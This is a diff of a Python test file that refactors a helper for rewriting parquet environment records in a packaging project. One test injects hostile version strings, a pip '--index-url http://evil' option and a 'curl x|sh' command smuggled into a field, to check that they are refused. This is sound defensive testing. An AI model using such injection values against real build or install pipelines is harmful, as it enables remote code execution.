@@ -6,9 +6,12 @@ import json
 import shutil
 import subprocess
 import sys
+from itertools import zip_longest
 from pathlib import Path
+from typing import Any
 
 import numpy as np
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from PIL import Image
@@ -19,6 +22,7 @@ from tests.commands import command
 from tests.driven import render_driven
 from tests.here import run_script
 from tests.jobs import job_values, prompt_rows, records_of, write_table
+from tests.outputs import change_records
 from tests.tiny import tiny
 
 
@@ -153,12 +157,7 @@ def test_what_cannot_be_packed_is_refused(out: Path, tmp_path: Path) -> None:
 
 def test_what_a_record_calls_a_version_is_no_option_of_pip_and_no_command(out: Path, tmp_path: Path) -> None:
     hostile = {"framefleet": "0.1.0\n--index-url http://evil", "python": "3; curl x|sh #", "torch": 5}
-    (part,) = (out / "records").iterdir()
-    table = pq.read_table(part)
-    place = table.column_names.index("environment")
-    cells = [json.dumps(json.loads(cell) | hostile) for cell in table["environment"].to_pylist()]
-    part.unlink()
-    pq.write_table(table.set_column(place, "environment", [cells]), part.with_name("part-x.parquet"))
+    changed_environments(out, *[hostile] * 4)
     framefleet.pack(out, tmp_path / "pack")
     pinned, page = ((tmp_path / "pack" / name).read_text() for name in ("requirements.txt", "README.md"))
     assert "diffusers==" in pinned
@@ -166,21 +165,15 @@ def test_what_a_record_calls_a_version_is_no_option_of_pip_and_no_command(out: P
     assert "python3 -m venv" in page and "curl" not in page
 
 
-def changed_environments(out: Path, *changed: dict[str, str], job: str | None = None, **columns: str) -> None:
+def changed_environments(out: Path, *changed: dict[str, Any], job: str | None = None, **columns: str) -> None:
     """Have the first records say something else of where they were rendered; and all of them of columns."""
-    (part,) = (out / "records").iterdir()
-    table = pq.read_table(part)
-    cells = [json.loads(cell) for cell in table["environment"].to_pylist()]
-    cells = [
-        json.dumps(cell | (changed[row] if row < len(changed) else {})) for row, cell in enumerate(cells)
-    ]
-    for name, values in {
-        "environment": cells,
-        **{name: [text] * len(table) for name, text in columns.items()},
-    }.items():
-        table = table.set_column(table.column_names.index(name), name, [values])
-    part.unlink()
-    pq.write_table(table, part.with_name("part-x.parquet"))
+
+    def change(table: pa.Table) -> dict[str, list[str]]:
+        cells = [json.loads(cell) for cell in table["environment"].to_pylist()]
+        texts = [json.dumps(cell | more) for cell, more in zip_longest(cells, changed, fillvalue={})]
+        return {"environment": texts, **{name: [text] * len(table) for name, text in columns.items()}}
+
+    change_records(out, change)
     if job is not None:
         (out / "job.json").write_text(job)
 
